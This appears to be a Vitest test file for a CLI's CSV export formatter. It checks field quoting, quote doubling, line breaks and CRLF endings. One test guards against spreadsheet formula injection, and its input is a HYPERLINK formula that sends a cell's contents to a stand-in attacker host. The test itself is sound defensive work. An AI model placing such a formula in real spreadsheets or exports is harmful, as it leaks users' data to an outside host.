import { describe, expect, it } from 'vitest';
import { formatCsv, quoteCsvField } from '../../../src/cli/export/format-csv.js';

describe('formatCsv', () => {
  it('leaves a plain field unquoted', () => {
    expect(quoteCsvField('Paris Call')).toBe('Paris Call');
  });

  it('quotes a field with a comma', () => {
    expect(quoteCsvField('states, industry')).toBe('"states, industry"');
  });

  it('doubles quotes inside a quoted field', () => {
    expect(quoteCsvField('the "Tech Accord"')).toBe('"the ""Tech Accord"""');
  });

  it('quotes a field with a line break', () => {
    expect(quoteCsvField('a\nb')).toBe('"a\nb"');
  });

  it('ends every row with CRLF', () => {
    expect(formatCsv([['a', 'b'], ['1', '']])).toBe('a,b\r\n1,\r\n');
  });
});

describe('formatCsv against formula injection', () => {
  it('writes an approved name that is a formula as text, quoted where it holds a comma', () => {
    const csv = formatCsv([['name'], ['=HYPERLINK("http://evil.example/?"&A2,"x")'], ['@SUM(A1:A2)']]);
    expect(csv).toBe(`name\r\n"'=HYPERLINK(""http://evil.example/?""&A2,""x"")"\r\n'@SUM(A1:A2)\r\n`);
  });
});
